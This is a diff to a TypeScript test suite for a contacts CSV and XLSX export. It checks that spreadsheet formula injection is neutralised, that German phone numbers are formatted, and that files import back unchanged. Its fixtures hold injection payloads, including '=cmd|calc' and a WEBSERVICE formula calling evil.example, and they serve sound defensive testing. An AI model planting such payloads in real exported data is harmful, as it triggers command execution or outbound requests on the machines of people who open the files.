@@ -24,6 +24,8 @@ const risky = () => [
   { firstName: '=1+2', lastName: '+Hyperlink', email: email('-minus'), tags: '@sum,=cmd|calc' },
   { firstName: "'=quoted", lastName: '-Okafor', email: email('plain'), tags: '' },
   { firstName: 'Chloé', lastName: 'Martin, Jr', email: email('chloe'), tags: 'vip,"quoted"' },
+  // Excel in most European locales splits CSV lines at semicolons: the part after one would be a cell of its own.
+  { firstName: 'Semi', lastName: 'Colon;=2+3', email: email('semi'), tags: 'x;=WEBSERVICE("https://evil.example")' },
 ];
 
 async function addContacts(businessId: number, rows = risky()): Promise<Contact[]> {
@@ -63,7 +65,7 @@ const readSheet = (file: Buffer) => {
 };
 
 describe('contacts export', () => {
-  it('writes CSV with the import columns, status and last visit, and formula cells neutralised', async () => {
+  it('writes CSV with the import columns, status and last visit, formula cells neutralised and cells with a semicolon quoted', async () => {
     const businessId = (await owner.createBusiness()).id;
     const [first] = await addContacts(businessId);
     await owner.patch('/api/contact/check-in-contacts', { contactIds: [first!.id] });
@@ -74,10 +76,16 @@ describe('contacts export', () => {
     expect(response.headers['content-disposition']).toMatch(/^attachment; filename="contacts-\d{4}-\d{2}-\d{2}\.csv"$/);
     const lines = response.body.replace(/^\uFEFF/, '').trimEnd().split('\r\n');
     expect(lines[0]).toBe(CONTACT_EXPORT_HEADERS.join(','));
-    expect(lines).toHaveLength(4);
-    expect(lines[1]).toMatch(/^'=1\+2,'\+Hyperlink,'-minus\.[^,]+,4915112345678,1990-05-17,Female,"'@sum,=cmd\|calc",Active,\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ$/);
-    expect(lines[2]).toMatch(/^''=quoted,'-Okafor,plain\.[^,]+,4915112345678,1990-05-17,Female,,Active,$/);
-    expect(lines[3]).toMatch(/^Chloé,"Martin, Jr",chloe\.[^,]+,4915112345678,1990-05-17,Female,"vip,""quoted""",Active,$/);
+    expect(lines).toHaveLength(5);
+    // Numbers of the business's country (Germany) as written there.
+    expect(lines[1]).toMatch(/^'=1\+2,'\+Hyperlink,'-minus\.[^,]+,01511 2345678,1990-05-17,Female,"'@sum,=cmd\|calc",Active,\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ$/);
+    expect(lines[2]).toMatch(/^''=quoted,'-Okafor,plain\.[^,]+,01511 2345678,1990-05-17,Female,,Active,$/);
+    expect(lines[3]).toMatch(/^Chloé,"Martin, Jr",chloe\.[^,]+,01511 2345678,1990-05-17,Female,"vip,""quoted""",Active,$/);
+    expect(lines[4]).toMatch(/^Semi,"Colon;=2\+3",semi\.[^,]+,01511 2345678,1990-05-17,Female,"x;=WEBSERVICE\(""https:\/\/evil\.example""\)",Active,$/);
+    // Split at its semicolons outside quotes, as such a spreadsheet reads it, no line has a cell that begins a formula.
+    for (const line of lines) {
+      for (const cell of line.match(/("([^"]|"")*"|[^;"])+/g) ?? []) expect(cell).not.toMatch(/^[=+\-@]/);
+    }
   });
 
   it('writes .xlsx with every cell as text, never a formula, and the original values', async () => {
@@ -104,8 +112,23 @@ describe('contacts export', () => {
     expect(await reimport(businessId, file)).toEqual({ created: 0, updated: 0, rejected: [], rejectedCount: 0 });
 
     const elsewhere = (await owner.createBusiness()).id;
-    expect(await reimport(elsewhere, file)).toMatchObject({ created: 3, updated: 0, rejectedCount: 0 });
+    expect(await reimport(elsewhere, file)).toMatchObject({ created: 4, updated: 0, rejectedCount: 0 });
     expect((await listContacts(elsewhere)).map(portable)).toEqual((await listContacts(businessId)).map(portable));
+  });
+
+  it('writes "—" for what a contact lacks and other countries’ numbers internationally; the file imports back unchanged', async () => {
+    const businessId = (await owner.createBusiness()).id;
+    const file = ['First name,Last name,Email,Phone number', `Ana,,${email('ana')},`, ',Novak,,+385 91 234 5678'].join('\n');
+    expect(await reimport(businessId, Buffer.from(file))).toMatchObject({ created: 2, rejectedCount: 0 });
+    const before = await listContacts(businessId);
+    const exported = (await owner.get(`${EXPORT(businessId)}?format=csv`)).body.replace(/^\uFEFF/, '').trimEnd().split('\r\n');
+    expect(exported.slice(1)).toEqual([
+      expect.stringMatching(/^Ana,—,ana\.[^,]+,—,—,Not specified,,Active,$/),
+      // A cell starting with + is kept text by the apostrophe (formula injection), which the import takes off again.
+      "—,Novak,—,'+385 91 234 5678,—,Not specified,,Active,",
+    ]);
+    expect(await reimport(businessId, Buffer.from(exported.join('\r\n')))).toEqual({ created: 0, updated: 0, rejected: [], rejectedCount: 0 });
+    expect(await listContacts(businessId)).toEqual(before);
   });
 
   it('exports only the contacts posted (a selection or a search), and only those of the business', async () => {
@@ -153,7 +176,7 @@ describe('contacts export', () => {
     expect(csv.statusCode).toBe(200);
     const lines = csv.body.trimEnd().split('\r\n');
     expect(lines).toHaveLength(100_001);
-    expect(lines[100_000]).toBe(`First100000,Last100000,c100000.${marker}@example.com,4915100100000,1987-05-19,Female,"vip,regular",Active,`);
+    expect(lines[100_000]).toBe(`First100000,Last100000,c100000.${marker}@example.com,01510 0100000,1987-05-19,Female,"vip,regular",Active,`);
 
     const xlsx = await owner.get(`${EXPORT(businessId)}?format=xlsx`);
     expect(xlsx.statusCode).toBe(200);
